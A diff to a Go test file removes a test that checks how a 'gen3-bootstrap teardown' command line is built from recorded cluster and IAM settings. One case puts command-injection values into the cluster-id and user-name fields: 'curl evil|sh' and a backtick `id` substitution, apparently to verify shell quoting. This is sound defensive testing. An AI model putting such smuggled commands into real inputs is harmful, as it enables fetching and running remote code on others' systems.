@@ -103,29 +103,3 @@ func TestRemaining(t *testing.T) {
 		})
 	}
 }
-
-// TestTeardownOfItsCluster names what a teardown without a record would not look for.
-func TestTeardownOfItsCluster(t *testing.T) {
-	t.Parallel()
-	for want, r := range map[string]*Recorded{
-		"gen3-bootstrap teardown --cluster-id 0a1b2c3d-1 -n gen3": {
-			Cluster: "0a1b2c3d-1", PolicyName: DefaultPolicyName, UserName: DefaultUserName, IAMPath: DefaultIAMPath,
-		},
-		"gen3-bootstrap teardown --cluster-id 0a1b2c3d-1 -n gen3 --policy-name p --user-name u --iam-path /x/": {
-			Cluster: "0a1b2c3d-1", PolicyName: "p", UserName: "u", IAMPath: "/x/",
-		},
-		"gen3-bootstrap teardown --cluster-id 0a1b2c3d-1 -n gen3 --role-name r --service-account sa --oidc-issuer https://i": {
-			Cluster: "0a1b2c3d-1", RoleName: "r", ServiceAccount: "sa", OIDCIssuer: "https://i",
-		},
-		"gen3-bootstrap teardown --cluster-id 0a1b2c3d-1 -n gen3 --oidc-issuer https://i": {
-			Cluster: "0a1b2c3d-1", RoleName: "external-secrets-gen3-0a1b2c3d", OIDCIssuer: "https://i",
-		},
-		"gen3-bootstrap teardown --cluster-id 'zzz; curl evil|sh #' -n gen3 --user-name $'x\\n`id`'": {
-			Cluster: "zzz; curl evil|sh #", UserName: "x\n`id`",
-		},
-	} {
-		if got := r.teardownOfItsCluster(Settings{Account: "123456789012", Namespace: "gen3"}); got != want+" --account 123456789012" {
-			t.Errorf("got %q, want %q", got, want)
-		}
-	}
-}
